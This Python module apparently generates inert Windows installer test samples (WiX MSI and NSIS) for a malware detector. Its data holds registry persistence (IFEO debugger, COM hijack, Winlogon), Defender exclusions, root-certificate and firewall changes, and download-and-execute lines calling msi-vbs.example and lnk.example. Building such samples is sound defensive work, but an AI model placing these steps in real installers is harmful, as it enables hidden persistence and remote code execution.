"""Eighth set: installers of Windows by wixl and makensis around genuine programs; inert.

The tools are asked for by name, and never run what they pack. The comment before each family says which incident it is after.
"""

from __future__ import annotations

from mutation_families.fourth_texts import chance
from mutation_families.seventh_installers import HELPER, component, step
from mutation_families.seventh_ways import Way, adding, together, ways
from onionskin.lookalike.pe import Recipe, build_pe

RUN = "Software\\Microsoft\\Windows NT\\CurrentVersion"
CERTIFICATE = b"0\x82\x03\x0b" + chance(760)


def value(root: str, key: str, name: str, text: str) -> bytes:
    """Return a row of the registry as WiX writes it."""
    named = f' Name="{name}"' if name else ""
    return f'<RegistryValue Root="{root}" Key="{key}"{named} Type="string" Value="{text}" KeyPath="yes"/>'.encode()  # fmt: skip


MSI: tuple[Way, ...] = (
    # Persistence that does not stand where programs usually start.
    *ways("msi: entries of the registry lead elsewhere", ("before a program", component(value("HKLM", f"{RUN}\\Image File Execution Options\\utilman.exe", "Debugger", "cmd.exe"), b"ifeo")), ("in place of a class", component(value("HKCU", "Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32", "", "[INSTALLDIR]mm.dll"), b"com")), ("as who signs in", component(value("HKLM", f"{RUN}\\Winlogon", "Userinit", "userinit.exe,wscript.exe [INSTALLDIR]u.vbs"), b"win"))),
    *ways("msi: the system guards less", ("what is not looked at", component(value("HKLM", "Software\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths", "[INSTALLDIR]", "0"), b"def"))),
    # Quiet: where it is updated from, and who answers.
    *ways("msi: entries of the registry lead elsewhere", ("updates", component(value("HKLM", "Software\\Vendor\\Tool", "UpdateUrl", "http://updates.vendor-tool.example/v2"), b"upu")), ("a scheme", component(value("HKCR", "vendor\\shell\\open\\command", "", "powershell.exe -w hidden -c %1"), b"sch"))),
    *ways("msi: a program more", ("which is a script", together(component(b'<File Id="f5" Source="u.vbs" KeyPath="yes"/>', b"vbs"), adding({"u.vbs": b'Set x = CreateObject("MSXML2.ServerXMLHTTP")\r\nx.open "GET", "https://msi-vbs.example/v", False\r\nx.send\r\nExecuteGlobal x.responseText\r\n'}))), ("which is beside", together(component(b'<File Id="f6" Source="dbghelp.dll" KeyPath="yes"/>', b"dbg"), adding({"dbghelp.dll": build_pe(Recipe(is_dll=True, name="dbghelp.dll", forwards={"MiniDumpWriteDump": "dbgcore.MiniDumpWriteDump"}, imports={"WINHTTP.dll": ("WinHttpOpen",), "KERNEL32.dll": ("VirtualProtect",)}))})))),
)  # fmt: skip

NSIS: tuple[Way, ...] = (
    # Installers of look-alike pages, 2023 to 2026.
    *ways("nsis: the system guards less", ("what is not looked at", step(b"nsExec::Exec 'powershell -nop -c Add-MpPreference -ExclusionPath $INSTDIR -ExclusionProcess tool.exe'\n")), ("a root of trust", together(step(b"File /oname=$TEMP\\r.cer r.cer\nnsExec::Exec 'certutil -f -addstore Root $TEMP\\r.cer'\nDelete $TEMP\\r.cer\n"), adding({"r.cer": CERTIFICATE}))), ("a door in the wall", step(b"nsExec::Exec 'netsh advfirewall firewall add rule name=Tool dir=in action=allow program=$INSTDIR\\program.exe'\n"))),
    *ways("nsis: it stays by an unlikely way", ("a link", step(b'CreateShortcut "$SMSTARTUP\\Tool.lnk" "$SYSDIR\\mshta.exe" "https://lnk.example/t.hta" "$INSTDIR\\program.exe" 0 SW_SHOWMINIMIZED\n')), ("a link that is there", step(b'CreateShortcut "$DESKTOP\\Browser.lnk" "$PROGRAMFILES\\Browser\\browser.exe" "--load-extension=$INSTDIR\\ext --disable-features=ExtensionsMenu"\n'))),
    *ways("nsis: only for those who are meant", ("where nobody watches", together(step(b"FindWindow $0 OLLYDBG\nStrCmp $0 0 0 +3\nFile /oname=$TEMP\\h.exe helper.exe\nExec '$TEMP\\h.exe'\n"), adding({"helper.exe": HELPER})))),
)  # fmt: skip
